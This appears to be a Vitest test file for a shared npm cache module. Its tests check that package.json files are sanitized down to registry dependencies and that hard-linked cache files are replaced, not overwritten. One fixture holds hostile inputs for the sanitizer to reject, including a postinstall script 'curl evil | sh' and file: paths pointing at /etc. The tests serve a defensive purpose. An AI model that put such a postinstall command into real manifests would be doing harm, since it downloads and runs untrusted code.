import { linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { applyChanges, cacheFillManifest } from './shared-npm-cache.server';

describe('cacheFillManifest', () => {
  it('keeps registry dependencies with semver ranges or tags, and nothing else of the package.json', () => {
    const fill = cacheFillManifest(
      JSON.stringify({
        name: 'app',
        scripts: { postinstall: 'curl evil | sh' },
        workspaces: ['..'],
        overrides: { react: 'file:/etc' },
        dependencies: { react: '^18.3.1', '@scope/pkg': '~1.2.0 || >=2 <3', vite: 'latest', empty: '' },
        devDependencies: { typescript: '5.x', evil: 'file:../../etc', gh: 'user/repo', url: 'https://x.test/a.tgz', git: 'git+ssh://git@x/y.git', dot: '.', alias: 'npm:react@18' },
        optionalDependencies: { fsevents: '*', 'Bad Name': '1.0.0', '../up': '1.0.0' },
        peerDependencies: { ignored: '1' },
      }),
    );
    expect(fill?.manifest).toEqual({
      name: 'appforge-cache-fill',
      version: '0.0.0',
      private: true,
      dependencies: { react: '^18.3.1', '@scope/pkg': '~1.2.0 || >=2 <3', vite: 'latest', empty: '*' },
      devDependencies: { typescript: '5.x' },
      optionalDependencies: { fsevents: '*' },
    });
    expect(fill?.dropped.sort()).toEqual(['../up@1.0.0', 'Bad Name@1.0.0', 'alias@npm:react@18', 'dot@.', 'evil@file:../../etc', 'gh@user/repo', 'git@git+ssh://git@x/y.git', 'url@https://x.test/a.tgz']);
  });

  it('gives nothing for malformed JSON, non-objects and manifests without registry dependencies', () => {
    for (const text of ['{', '[]', 'null', '"x"', '{"dependencies":{"a":"file:x"}}', '{"dependencies":[]}', '{}']) expect(cacheFillManifest(text)).toBeNull();
  });

  it('keeps at most 300 dependencies', () => {
    const dependencies = Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`p${i}`, '1.0.0']));
    const fill = cacheFillManifest(JSON.stringify({ dependencies }));
    expect(Object.keys(fill!.manifest.dependencies as object)).toHaveLength(300);
    expect(fill!.dropped).toHaveLength(100);
  });
});

describe('applyChanges', () => {
  let dir = '';
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('replaces files instead of writing into them, so a file hard-linked from the older layer keeps its content', () => {
    dir = mkdtempSync(join(tmpdir(), 'apply-changes-'));
    const [older, next, upper] = ['older', 'next', 'upper'].map((name) => join(dir, name));
    mkdirSync(join(older, 'index'), { recursive: true });
    writeFileSync(join(older, 'index', 'bucket'), 'old entry\n');
    mkdirSync(join(next, 'index'), { recursive: true });
    linkSync(join(older, 'index', 'bucket'), join(next, 'index', 'bucket'));
    mkdirSync(join(upper, 'index'), { recursive: true });
    mkdirSync(join(upper, 'content', 'ab'), { recursive: true });
    writeFileSync(join(upper, 'index', 'bucket'), 'old entry\nnew entry\n');
    writeFileSync(join(upper, 'content', 'ab', 'cd'), 'tarball');

    return applyChanges(upper, next).then(() => {
      expect(readFileSync(join(next, 'index', 'bucket'), 'utf8')).toBe('old entry\nnew entry\n');
      expect(readFileSync(join(next, 'content', 'ab', 'cd'), 'utf8')).toBe('tarball');
      expect(readFileSync(join(older, 'index', 'bucket'), 'utf8')).toBe('old entry\n');
    });
  });
});
